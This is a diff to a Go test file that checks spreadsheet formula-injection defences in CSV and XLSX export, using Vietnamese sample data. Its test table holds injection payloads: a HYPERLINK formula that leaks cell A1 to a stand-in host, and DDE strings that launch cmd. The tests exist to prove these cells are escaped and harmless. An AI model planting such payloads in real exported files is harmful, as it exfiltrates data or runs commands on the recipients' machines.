@@ -57,3 +57,87 @@ func TestXLSXReadsBackWithNumbersAsNumbers(t *testing.T) {
 		t.Errorf("C2 = %q", v)
 	}
 }
+
+// hostile are cells a spreadsheet would run as formulas, and their CSV form.
+var hostile = []struct{ in, csv string }{
+	{`=HYPERLINK("http://x.example/?"&A1,"Bấm")`, `'=HYPERLINK("http://x.example/?"&A1,"Bấm")`},
+	{"+84 912 345 678", "'+84 912 345 678"},
+	{"-3", "'-3"},
+	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+	{"\t=1+1", "'\t=1+1"},
+	{"\r=1+1", "'\r=1+1"},
+	{"'=1+1", "''=1+1"},
+	{"Chi bộ 5 - phường Bạch Mai", "Chi bộ 5 - phường Bạch Mai"},
+	{"'quoted'", "'quoted'"},
+	{"", ""},
+}
+
+func TestCSVMakesTextInertButKeepsNumbers(t *testing.T) {
+	tab := Table{Header: []string{"=Đơn vị", "Số", "Thay đổi"}}
+	for _, h := range hostile {
+		tab.Rows = append(tab.Rows, []any{h.in, -3, Formatted("-1")})
+	}
+	tab.Rows = append(tab.Rows, []any{"x", -2.5, Formatted("+3")})
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, tab); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if recs[0][0] != "'=Đơn vị" {
+		t.Errorf("heading %q, want it inert", recs[0][0])
+	}
+	for i, h := range hostile {
+		if got := recs[i+1]; got[0] != h.csv || got[1] != "-3" || got[2] != "-1" {
+			t.Errorf("row %q = %q, want %q, then -3 and -1 as numbers", h.in, got, h.csv)
+		}
+	}
+	if last := recs[len(recs)-1]; last[1] != "-2.5" || last[2] != "+3" {
+		t.Errorf("numbers %q, want -2.5 and +3 as they are", last)
+	}
+}
+
+func TestInertReadsBackExactly(t *testing.T) {
+	for _, h := range hostile {
+		if got := Inert(h.in); got != h.csv {
+			t.Errorf("Inert(%q) = %q, want %q", h.in, got, h.csv)
+		}
+		if got := RestoreInert(Inert(h.in)); got != h.in {
+			t.Errorf("RestoreInert(Inert(%q)) = %q", h.in, got)
+		}
+	}
+}
+
+func TestXLSXWritesTextAsTextNeverAsFormulas(t *testing.T) {
+	tab := Table{Sheet: "Tiến độ", Header: []string{"Đơn vị", "Số"}}
+	for _, h := range hostile {
+		tab.Rows = append(tab.Rows, []any{h.in, -3})
+	}
+	var buf bytes.Buffer
+	if err := WriteXLSX(&buf, tab); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, h := range hostile {
+		if h.in == "" {
+			continue
+		}
+		a, _ := excelize.CoordinatesToCellName(1, i+2)
+		b, _ := excelize.CoordinatesToCellName(2, i+2)
+		typ, _ := f.GetCellType("Tiến độ", a)
+		v, _ := f.GetCellValue("Tiến độ", a)
+		formula, _ := f.GetCellFormula("Tiến độ", a)
+		if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString || v != h.in || formula != "" {
+			t.Errorf("%s = %q (type %v, formula %q), want the text %q", a, v, typ, formula, h.in)
+		}
+		if typ, _ := f.GetCellType("Tiến độ", b); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
+			t.Errorf("%s is text, want the number -3", b)
+		}
+	}
+}
